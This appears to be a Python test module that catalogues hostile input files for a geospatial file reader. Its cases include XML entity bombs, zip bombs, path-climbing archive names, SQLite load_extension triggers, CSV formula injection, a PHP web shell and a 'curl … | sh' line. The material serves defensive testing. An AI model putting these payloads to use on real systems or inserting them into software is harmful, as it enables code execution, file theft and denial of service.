"""Every hostile file by what it is; `hostile_files.py` builds them."""

from __future__ import annotations

import struct
from typing import Final

import shapely

from tests.attacks.hostile_files import (
    LISTED,
    Build,
    archive,
    arcs_without_end,
    array_of_blocks,
    crs_of,
    drawing,
    endless_block,
    entity,
    entity_address,
    entity_bomb,
    false_feature_length,
    false_record_length,
    false_table_length,
    geopackage,
    kml_of,
    linked_file,
    linked_member,
    mapinfo,
    nested_blocks,
    network_links,
    outer_reference,
    parquet,
    shapefile_under,
    streamed_algorithm,
    text_file,
    virtual_dataset,
    zip_in_zips,
    zip_of_overlaps,
    zip_with_false_sizes,
)
from tests.attacks.hostile_workbooks import (
    bomb_in_workbook,
    cells,
    changed_workbook,
    doctype_in_workbook,
    external_links,
    fetching_formulas,
    formulas_without_values,
    last_row_in_workbook,
    opendocument,
    table_of,
    workbook,
)
from tests.read.drawn_files import LEFT
from tests.read.vectors.drawn_formats import folder, kml, write_kmz

PROGRAMS: Final = {
    "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "php": b"<?php system($_GET['x']); ?>",
    "script": b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n",
    "windows program": b"MZ\x90\0" + b"\0" * 200,
}


HOSTILE: dict[str, Build] = {
    **{
        f"a virtual data set named {ending}": text_file(f"a{ending}", virtual_dataset)
        for ending in (
            ".geojson",
            ".json",
            ".topojson",
            ".gpkg",
            ".kml",
            ".kmz",
            ".shp",
            ".zip",
            ".fgb",
            ".parquet",
            ".csv",
            ".xlsx",
            ".xls",
            ".ods",
            ".dxf",
            ".vrt",
        )
    },
    **{
        f"a pipeline named {ending}": text_file(f"a{ending}", streamed_algorithm)
        for ending in (".geojson", ".json", ".kml", ".gpkg", ".fgb", ".csv", ".dxf", ".gdalg.json")
    },
    "a system at an address": crs_of(lambda o: {"type": "url", "properties": {"url": f"{o.address}/crs"}}),
    "a system behind a link": crs_of(
        lambda o: {"type": "link", "properties": {"href": f"{o.address}/crs", "type": "proj4"}}
    ),
    "a system that is a file": crs_of(lambda o: {"type": "name", "properties": {"name": str(o.secret)}}),
    "a system named by an address": crs_of(lambda o: {"type": "name", "properties": {"name": o.address}}),
    "a system within a geometry": crs_of(
        lambda o: {"type": "url", "properties": {"url": o.address}}, inside=True
    ),
    "a view": geopackage("create view spy as select * from units", LISTED),
    "a full-text table": geopackage("create virtual table spy using fts5(text)", LISTED),
    "a virtual table of files": geopackage(
        LISTED, schema="create virtual table spy using VirtualText('{secret}', 'UTF-8', 1)"
    ),
    "a virtual table of drivers": geopackage(
        LISTED, schema="create virtual table spy using VirtualOGR('{secret}')"
    ),
    "a view that loads code": geopackage("create view spy as select load_extension('{secret}') as x", LISTED),
    "a trigger": geopackage(
        "create trigger spy after insert on units begin select load_extension('{secret}'); end"
    ),
    "an archive of archives": zip_in_zips,
    "an archive of zeros": archive("a.zip", {"a.shp": b"\0" * 50_000_000}),
    "an archive of many": archive("a.zip", {f"{n}.shp": b"" for n in range(1_200)}),
    "an archive of false sizes": zip_with_false_sizes,
    "an archive that repeats itself": zip_of_overlaps,
    "an archive without a shapefile": archive("a.zip", {"readme.txt": b"x"}),
    "a KMZ of blanks": archive("a.kmz", {"doc.kml": b"<kml>" + b" " * 30_000_000}),
    "names that climb": shapefile_under("../../climbed"),
    "names from the root": shapefile_under("{folder}/rooted"),
    "names of Windows": shapefile_under("..\\..\\C:\\climbed"),
    "a KMZ that climbs": lambda where, _: write_kmz(where / "a.kmz", {"../../doc.kml": kml()}),
    "a link in an archive": linked_member,
    "a link for a file": linked_file,
    "a member with a zero in its name": archive("a.zip", {"a\0/../b.shp": b"x"}),
    "nested blocks": drawing(nested_blocks),
    "a block within itself": drawing(endless_block),
    "an array of blocks": drawing(array_of_blocks),
    "a drawing that refers outside": drawing(outer_reference),
    "a drawing without end": text_file("a.dxf", lambda _: "0\nSECTION\n2\nENTITIES\n" + "0\nLINE\n" * 9),
    "geometry nested twice": parquet(struct.pack("<BII", 1, 7, 1) * 2 + shapely.to_wkb(LEFT)),
    "geometry nested without end": parquet(struct.pack("<BII", 1, 7, 1) * 100_000),
    "geometry of four thousand million parts": parquet(struct.pack("<BII", 1, 6, 0xFFFFFFFF)),
    "geometry of no encoding known": parquet(b"x", encoding="point"),
    "a file by an entity": kml_of(entity),
    "an address by a DOCTYPE": kml_of(entity_address),
    "an entity bomb": kml_of(entity_bomb, "&j;"),
    "an entity in a GPX": text_file("a.gpx", lambda o: entity(o) + "<gpx><wpt lat='1' lon='1'/></gpx>"),
    "an entity in a GPX named KML": text_file(
        "a.kml", lambda o: "<?xml version='1.0'?>" + entity(o) + "<gpx/>"
    ),
    "an entity in a workbook": changed_workbook(doctype_in_workbook),
    "an entity in an ODS": opendocument(lambda _: table_of(cells("&x;")), entity),
    "an entity bomb in an ODS": opendocument(lambda _: table_of(cells("&j;")), entity_bomb),
    "an entity in MapInfo": mapinfo(lambda o: entity(o) + "<x>&x;</x>", "a.mif"),
    "a MapInfo view of a file": mapinfo(
        lambda o: (
            f'!table\n!charset Neutral\nopen table "{o.secret}" hide\ncreate view x as select * from y\n'
        )
    ),
    "a MapInfo raster elsewhere": mapinfo(
        lambda o: f'!table\n!charset Neutral\nDefinition Table\n File "{o.secret}"\n Type "RASTER"\n'
    ),
    "ten thousand folders": text_file(
        "a.kml", lambda _: kml("".join(folder(f"f{n}", "<Placemark/>") for n in range(10_000)))
    ),
    "folders nested without end": text_file(
        "a.kml", lambda _: kml("<Folder>" * 50_000 + "</Folder>" * 50_000)
    ),
    "links of a KML": text_file("a.kml", network_links),
    "a workbook of blanks": changed_workbook(bomb_in_workbook),
    "a workbook of a million rows": changed_workbook(last_row_in_workbook),
    "an ODS of a million rows": opendocument(
        lambda _: table_of(cells("姓名", "电话"), cells("安", "1", repeated=1_000_000))
    ),
    "an ODS of sixteen million cells": opendocument(
        lambda _: table_of(
            cells("姓名"),
            '<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type='
            '"string" table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
            "</table:table-row>",
        )
    ),
    "an ODS that takes from elsewhere": opendocument(
        lambda o: (
            f'<table:table table:name="S"><table:table-source xlink:href="{o.address}"/>'
            f"{cells('姓名', '村')}{cells('安', '李村')}</table:table>"
        )
    ),
    "a workbook of fetching formulas": workbook(fetching_formulas),
    "a workbook of formulas alone": formulas_without_values,
    "a workbook that refers to another": external_links,
    "a workbook that is encrypted": text_file(
        "a.xlsx", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    ),
    "an old workbook of zeros": text_file(
        "a.xls", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    ),
    "formulas in CSV": text_file(
        "a.csv",
        lambda o: f'姓名,村\n=cmd|\' /C calc\'!A0,李村\n"=WEBSERVICE(""{o.address}"")",王村\n@SUM(1),x\n',
    ),
    "a CSV of one quote": text_file("a.csv", lambda _: 'a,b\n"' + "x" * 3_000_000),
    "a CSV of many columns": text_file("a.csv", lambda _: "a," * 100_000 + "\n1,2\n"),
    "a CSV of many rows": text_file("a.csv", lambda _: "a,b\n" + "1,2\n" * 200_000),
    "a CSV of zeros": text_file("a.csv", lambda _: b"\0" * 5_000),
    "JSON nested without end": text_file(
        "a.geojson", lambda _: '{"type": "FeatureCollection", "a": ' + "[" * 200_000 + "]" * 200_000 + "}"
    ),
    "a number of ten thousand digits": text_file(
        "a.geojson", lambda _: '{"type": "Point", "coordinates": [' + "9" * 10_000 + ", 1]}"
    ),
    "a number beyond all": text_file(
        "a.geojson", lambda _: '{"type": "Point", "coordinates": [1e999, -1e999]}'
    ),
    "arcs without end": arcs_without_end,
    "a shapefile of false lengths": false_record_length,
    "attributes of false lengths": false_table_length,
    "FlatGeobuf of a false length": false_feature_length,
    **{
        f"a {program} named {ending}": text_file(f"a{ending}", lambda _, content=content: content)  # type: ignore[misc]
        for program, content in PROGRAMS.items()
        for ending in (".geojson", ".kml", ".csv", ".xlsx", ".zip")
    },
}
